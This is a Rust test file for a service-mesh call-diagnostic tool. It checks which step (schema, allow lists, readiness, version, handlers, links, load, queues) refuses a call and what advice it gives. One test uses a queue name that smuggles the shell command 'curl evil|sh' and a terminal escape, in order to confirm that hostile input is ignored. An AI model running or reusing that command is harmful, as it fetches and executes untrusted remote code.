//! Each step that can say no, and what it says to do.

use serde_json::{Value, json};

use super::super::step::{Step, Verdict};
use super::{Facts, walk};
use meshwork_schema::Schema;

const SCHEMA: &str = r#"
    [thumbnailer]
    _allow = ["gateway", "late"]
    [thumbnailer._commands._balanced]
    resize = { concurrency = 2, backlog = 1 }
    render = { queued = true, attempts = 3 }
    secret = { allow = ["late"] }
    [gateway]
    _connect = ["thumbnailer"]
    [late]
    [shy]
    _connect = ["late"]
"#;

/// One that goes by the schema in force and has links.
fn process() -> Value {
    json!({"version": "0.1.0", "uptime_ms": 5000, "running": 0, "schema": 7, "age_ms": 100})
}

fn member(worker: &str, variant: &str, status: &str) -> Value {
    let node = "5d41402abc4b2a76b9719d911017c592b1946ac92492d2347c6235b4d2611184";
    let commands: &[&str] =
        if worker == "thumbnailer" { &["render", "resize", "secret"] } else { &[] };
    json!({
        "worker": worker, "variant": variant, "incarnation": 5, "status": status, "node": node,
        "addresses": ["10.0.0.7:4000"], "schema": 7, "since_unix_ms": 1, "process": process(),
        "commands": commands,
        "ticket_serial": 1, "ticket_ends_unix_s": 2,
    })
}

/// A gateway and two thumbnailers, all well.
fn well() -> Value {
    json!({
        "members": [
            member("gateway", "g", "ready"),
            member("thumbnailer", "one", "ready"),
            member("thumbnailer", "two", "ready"),
        ],
        "links": [{"a": 0, "b": 1}, {"a": 2, "b": 0}],
        "commands": [], "traffic": [], "queues": [],
        "queue_store": {"state": "none"},
        "at_unix_ms": 1, "workers": [],
        "master": {"version": "0.1.0", "uptime_ms": 90_000, "epoch": 1, "settled": true,
                   "schema": 7, "fingerprint": "9f".repeat(32), "last_event": 3},
    })
}

fn facts(mesh: &Value) -> Facts {
    Facts {
        schema: Schema::from_toml(SCHEMA).unwrap(),
        members: serde_json::from_value(mesh["members"].clone()).unwrap(),
        mesh: serde_json::from_value(mesh.clone()).unwrap(),
    }
}

fn asked(mesh: &Value, caller: &str, target: &str) -> Vec<Step> {
    walk(&facts(mesh), &caller.parse().unwrap(), &target.parse().unwrap())
}

/// The steps of a call of `thumbnailer.resize` by the gateway, after a change to what is well.
fn after(change: impl FnOnce(&mut Value)) -> Vec<Step> {
    let mut mesh = well();
    change(&mut mesh);
    asked(&mesh, "gateway", "thumbnailer.resize")
}

#[track_caller]
fn says_no(steps: &[Step], step: &str, what: &str, advice: &str) {
    let last = steps.last().unwrap();
    assert_eq!((last.step, last.verdict), (step, Verdict::No), "{steps:#?}");
    assert!(last.what.contains(what), "{last:#?}");
    assert!(last.advice.as_ref().unwrap().contains(advice), "{last:#?}");
    let before = &steps[..steps.len() - 1];
    assert!(before.iter().all(|step| step.verdict != Verdict::No), "{steps:#?}");
}

#[track_caller]
fn doubts(steps: &[Step], step: &str, what: &str) {
    let found = steps.iter().find(|found| found.step == step).unwrap();
    assert_eq!(found.verdict, Verdict::Doubt, "{steps:#?}");
    assert!(found.what.contains(what), "{found:#?}");
    assert!(steps.iter().all(|step| step.verdict != Verdict::No), "{steps:#?}");
}

fn rates(ok: f64, failed: f64, not_executed: f64, unknown: f64) -> Value {
    json!({"ok": ok, "failed": failed, "not_executed": not_executed, "unknown": unknown})
}

fn traffic(rates: Value) -> Value {
    let command = "resize";
    json!([{"from": "gateway", "to": "thumbnailer", "command": command, "per_second": rates}])
}

fn served(running: u64) -> Value {
    json!([{"worker": "thumbnailer", "command": "resize", "instances": 2, "running": running,
            "per_second": rates(1.0, 0.0, 0.0, 0.0), "p50_us": 1, "p99_us": 2}])
}

#[test]
fn a_mesh_that_is_well_has_a_tick_at_each_step() {
    let steps = after(|_| {});
    let names: Vec<_> = steps.iter().map(|step| step.step).collect();
    let way = ["_connect", "_allow", "allow", "callers", "callees", "version", "served", "links"];
    assert_eq!(names, [&["schema"], &way[..], &["load"]].concat());
    assert!(steps.iter().all(|step| step.verdict == Verdict::Yes), "{steps:#?}");
    // A link has no direction: who was dialled may call as well.
    let mut mesh = well();
    mesh["members"].as_array_mut().unwrap().push(member("late", "l", "ready"));
    mesh["members"].as_array_mut().unwrap().push(member("shy", "s", "ready"));
    says_no(&asked(&mesh, "late", "gateway.any"), "schema", "no command `any`", "none at all");
}

#[test]
fn what_the_schema_does_not_have_or_allow() {
    let mesh = well();
    let no = |caller, target, step, what, advice| {
        says_no(&asked(&mesh, caller, target), step, what, advice);
    };
    no("gatewey", "thumbnailer.resize", "schema", "no worker `gatewey`", "did you mean `gateway`?");
    no("gateway", "tumbnailer.resize", "schema", "no worker `tumbnailer`", "`thumbnailer`?");
    no("gateway", "thumbnailer.resise", "schema", "no command `resise`", "`resize`?");
    let lines = "[shy]\n_connect = [\"late\", \"thumbnailer\"]\n\n[thumbnailer]\n_allow = [";
    no("shy", "thumbnailer.resize", "_connect", "does not name thumbnailer", lines);
    no(
        "gateway",
        "thumbnailer.secret",
        "allow",
        "does not name gateway",
        "[\"gateway\", \"late\"]",
    );
    // Its `_allow` names it, but it does not dial.
    no(
        "late",
        "thumbnailer.resize",
        "_connect",
        "nobody dials",
        "[late]\n_connect = [\"thumbnailer\"]",
    );
}

#[test]
fn who_is_dialled_has_to_allow_it() {
    let schema = SCHEMA.replace("_allow = [\"gateway\", \"late\"]", "_allow = [\"late\"]");
    let facts = Facts { schema: Schema::from_toml(&schema).unwrap(), ..facts(&well()) };
    let target = "thumbnailer.resize".parse().unwrap();
    let steps = walk(&facts, &"gateway".parse().unwrap(), &target);
    says_no(&steps, "_allow", "does not name gateway", "_allow = [\"gateway\", \"late\"]");
}

#[test]
fn callers_and_callees_have_to_be_there_and_ready() {
    let without = |worker: &'static str| {
        move |mesh: &mut Value| {
            mesh["members"].as_array_mut().unwrap().retain(|row| row["worker"] != worker);
            mesh["links"] = json!([]);
        }
    };
    says_no(&after(without("gateway")), "callers", "no instance of gateway", "Start one");
    says_no(&after(without("thumbnailer")), "callees", "no instance of thumbnailer", "Start one");
    let fresh = after(|mesh| {
        without("thumbnailer")(mesh);
        mesh["master"]["settled"] = false.into();
    });
    says_no(&fresh, "callees", "no instance", "started a moment ago");
    let as_status = |status: &'static str| {
        move |mesh: &mut Value| {
            for place in [1, 2] {
                mesh["members"][place]["status"] = status.into();
            }
        }
    };
    says_no(&after(as_status("joining")), "callees", "2 joining", "/readyz");
    says_no(&after(as_status("draining")), "callees", "2 draining", "Start another one");
    doubts(&after(as_status("lost")), "callees", "2 lost");
}

#[test]
fn all_go_by_the_schema_in_force() {
    let stale = |places: &'static [usize]| {
        move |mesh: &mut Value| {
            for place in places {
                mesh["members"][place]["process"]["schema"] = 6.into();
            }
        }
    };
    says_no(&after(stale(&[0])), "version", "no instance of gateway", "gateway/g did not take");
    says_no(&after(stale(&[1, 2])), "version", "no instance of thumbnailer", "starting it anew");
    doubts(&after(stale(&[1])), "version", "1 member by another schema");
    let silent = after(|mesh| mesh["members"][1]["process"]["schema"] = Value::Null);
    doubts(&silent, "version", "1 of 3 did not say");
}

#[test]
fn somebody_has_to_have_a_handler() {
    let without = |places: &'static [usize]| {
        move |mesh: &mut Value| {
            for place in places {
                mesh["members"][place]["commands"] = json!(["render"]);
            }
        }
    };
    says_no(
        &after(without(&[1, 2])),
        "served",
        "no instance has a handler",
        "thumbnailer/one, thumb",
    );
    doubts(&after(without(&[1])), "served", "1 of 2");
}

#[test]
fn the_two_have_to_be_linked() {
    let none = after(|mesh| mesh["links"] = json!([]));
    says_no(&none, "links", "no link between", "gateway dials thumbnailer at 10.0.0.7:4000");
    doubts(&after(|mesh| mesh["links"] = json!([{"a": 1, "b": 0}])), "links", "1 of 2");
    let unreported = after(|mesh| {
        mesh["links"] = json!([]);
        for place in 0..3 {
            mesh["members"][place]["process"] = Value::Null;
        }
    });
    doubts(&unreported, "links", "not known");
    let lonely = after(|mesh| {
        mesh["members"].as_array_mut().unwrap().push(member("gateway", "h", "ready"));
    });
    doubts(&lonely, "links", "none to gateway/h");
}

#[test]
fn there_has_to_be_room() {
    // Two instances of two slots and one place to wait.
    let full = after(|mesh| mesh["commands"] = served(6));
    says_no(&full, "load", "6 running of 6", "raise `concurrency`");
    let busy = after(|mesh| mesh["commands"] = served(5));
    assert_eq!(busy.last().unwrap().verdict, Verdict::Yes, "{busy:#?}");
    let with = |rates| after(|mesh| mesh["traffic"] = traffic(rates));
    let overloaded = |ok: f64, not_executed: f64, overloaded: f64| {
        let mut rates = rates(ok, 0.0, not_executed, 0.0);
        rates["overloaded"] = json!(overloaded);
        with(rates)
    };
    says_no(&overloaded(0.0, 4.0, 4.0), "load", "4.0/s overloaded", "None gets through. Calls bey");
    doubts(&overloaded(9.0, 1.0, 1.0), "load", "1.0/s overloaded");
    let both = "4.0/s not executed: 1.0/s overloaded, 3.0/s refused otherwise";
    says_no(&overloaded(0.0, 4.0, 1.0), "load", both, "The error that callers get");
    doubts(&overloaded(9.0, 4.0, 1.0), "load", both);
    says_no(
        &with(rates(0.0, 0.0, 4.0, 0.0)),
        "load",
        "4.0/s refused, and not for",
        "There is room",
    );
    doubts(&with(rates(9.0, 0.0, 1.0, 0.0)), "load", "1.0/s refused, and not for load");
    doubts(&with(rates(9.0, 0.0, 0.0, 1.0)), "load", "unknown outcome");
    doubts(&with(rates(9.0, 1.0, 0.0, 0.0)), "load", "1.0/s failed");
}

#[test]
fn a_member_that_reports_a_strange_queue_neither_pauses_nor_advises() {
    for queue in ["thumbnailer.render@x;curl evil|sh #\u{1b}[2J", "thumbnailer.renderer"] {
        let mut mesh = well();
        mesh["queues"] = json!([{
            "queue": queue, "reachable": true, "ready": 0, "scheduled": 0, "running": 0, "dead": 0,
            "oldest_ready_ms": null, "paused": true,
        }]);
        let steps = asked(&mesh, "gateway", "thumbnailer.render");
        assert!(steps.iter().all(|step| step.verdict == Verdict::Yes), "{steps:#?}");
    }
}

#[test]
fn a_queue_has_to_run() {
    let queue = |ready: u64, dead: u64, oldest: Value, paused: bool| {
        let mut mesh = well();
        mesh["queues"] = json!([{
            "queue": "thumbnailer.render", "reachable": true, "ready": ready, "scheduled": 0,
            "running": 0, "dead": dead, "oldest_ready_ms": oldest, "paused": paused,
        }]);
        asked(&mesh, "gateway", "thumbnailer.render")
    };
    let paused = queue(3, 0, json!(10), true);
    says_no(&paused, "queue", "is paused", "meshwork queue resume thumbnailer.render");
    doubts(&queue(3, 0, json!(200_000), false), "queue", "the oldest job has waited for 3m");
    doubts(&queue(0, 2, Value::Null, false), "queue", "2 dead");
    let well_queued = queue(1, 0, json!(5), false);
    let found = well_queued.iter().find(|step| step.step == "queue").unwrap();
    assert!(found.what.contains("1 at a time, 3 attempts"), "{found:#?}");
    assert!(well_queued.iter().all(|step| step.verdict == Verdict::Yes), "{well_queued:#?}");
    // Jobs reach a store that is shared without any link.
    let mut mesh = well();
    mesh["links"] = json!([]);
    doubts(&asked(&mesh, "gateway", "thumbnailer.render"), "links", "no link");
    // A worker gives its own queue jobs.
    let own = asked(&well(), "thumbnailer", "thumbnailer.render");
    assert!(own.iter().all(|step| step.verdict == Verdict::Yes), "{own:#?}");
    assert!(own.iter().all(|step| step.step != "links"), "{own:#?}");
}
